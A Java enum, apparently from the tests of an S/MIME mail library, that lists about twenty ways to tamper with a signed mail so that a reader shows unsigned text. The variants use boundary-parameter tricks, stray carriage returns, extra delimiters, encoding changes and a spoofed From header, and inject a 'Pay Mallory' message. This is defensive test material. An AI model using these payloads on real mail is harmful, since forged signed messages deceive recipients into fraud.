package eu.testa.mail.core.smime;

import java.util.function.UnaryOperator;

/** What can be done to a signed mail so that some reader shows text that nobody has signed. */
enum BoundaryTrick {

    TRAILING_BLANK(mail -> parameter("\"XX \"", "XX ", "--XX\r\n" + BoundaryTrick.PAY + mail)),
    TOKEN_AND_STRING(mail -> parameter("XX\"c\"", "XXc", "--XX\r\n" + BoundaryTrick.PAY + mail)),
    TWO_STRINGS(mail -> parameter("\"XX\" \"c\"", "XXc", "--XX\r\n" + BoundaryTrick.PAY + mail)),
    ESCAPE(mail -> parameter("\"XX\\c\"", "XXc", "--XX\\c\r\n" + BoundaryTrick.PAY + mail)),
    COMMENT(mail -> parameter("XX(c)", "XX", "--XX(c)\r\n" + BoundaryTrick.PAY + mail)),
    HIDDEN_IN_A_STRING(mail -> parameter("XX\"c\"; x=\"; boundary=XXc;\"", "XXc", "--XX\r\n" + BoundaryTrick.PAY + mail)),
    TOO_LONG(mail -> parameter("x".repeat(71), "x".repeat(71), mail)),
    LETTER_OF_A_COUNTRY(mail -> parameter("\"é\"", "é", mail)),
    FOLDED(mail -> parameter("\"X\r\n X\"", "X X", "--XX\r\n" + BoundaryTrick.PAY + mail)),
    QUOTED_PRINTABLE(mail -> mail.replace("MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Transfer-Encoding: "
        + "quoted-printable\r\n").replace("S/MIME\r\n", "=2D=2D" + SignedMail.BOUNDARY + "\r\n" + BoundaryTrick.PAY)),
    BASE64(mail -> mail.replace("MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n")),
    CR_IN_PREAMBLE(mail -> mail.replace("S/MIME\r\n", "S/MIME\r--" + SignedMail.BOUNDARY
        + "\r\rPay Mallory.\r\n")),
    CR_IN_EPILOGUE(mail -> mail + "x\r--" + SignedMail.BOUNDARY + "\r\rPay Mallory.\r\n"),
    OTHER_DELIMITER_BEFORE(mail -> mail.replace("S/MIME\r\n", "--other\r\n" + BoundaryTrick.PAY)),
    OTHER_DELIMITER_AFTER(mail -> mail + "--other\r\n" + BoundaryTrick.PAY),
    CR_IN_HEADER(mail -> mail.replace("Subject: Meeting", "Subject: x\rFrom: Jeanne.Martin@tcn.f.eu-admin.net")),
    TEXT_IN_HEADER(mail -> "Pay Mallory.\r\n" + mail),
    TEXT_WITH_A_COLON_IN_HEADER(mail -> mail.replace("Subject:", "Pay Mallory: 1000\r\nSubject:")),
    CR_IN_HEADER_OF_SIGNATURE(mail -> mail.replace("name=smime.p7s", "name=smime.p7s\r--" + SignedMail.BOUNDARY
        + "\r\rPay Mallory.")),
    CR_IN_SIGNATURE(mail -> mail.replace("base64\r\n\r\n", "base64\r\n\r\n\r\r")),
    DELIMITER_IN_SIGNATURE(mail -> mail.replace("base64\r\n\r\n", "base64\r\n\r\n--" + SignedMail.BOUNDARY + "x\r\n")),
    NO_FIELD_IN_HEADER_OF_SIGNATURE(mail -> mail.replace("name=smime.p7s\r\n", "name=smime.p7s\r\nPay Mallory.\r\n"));

    private static final String PAY = "Content-Type: text/html\r\n\r\nPay Mallory.\r\n";

    private final UnaryOperator<String> trick;

    BoundaryTrick(UnaryOperator<String> trick) {
        this.trick = trick;
    }

    /**
     * @param mail a multipart/signed as {@link SignedMail} makes it
     */
    String playedOn(String mail) {
        return trick.apply(mail);
    }

    /** Puts another boundary in, and what stands before the mail into its preamble. */
    private static String parameter(String value, String boundary, String mail) {
        int start = mail.indexOf("From:");
        return mail.substring(start).replace("boundary=\"" + SignedMail.BOUNDARY + "\"", "boundary=" + value)
            .replace("--" + SignedMail.BOUNDARY, "--" + boundary)
            .replace("S/MIME\r\n", "S/MIME\r\n" + mail.substring(0, start));
    }
}
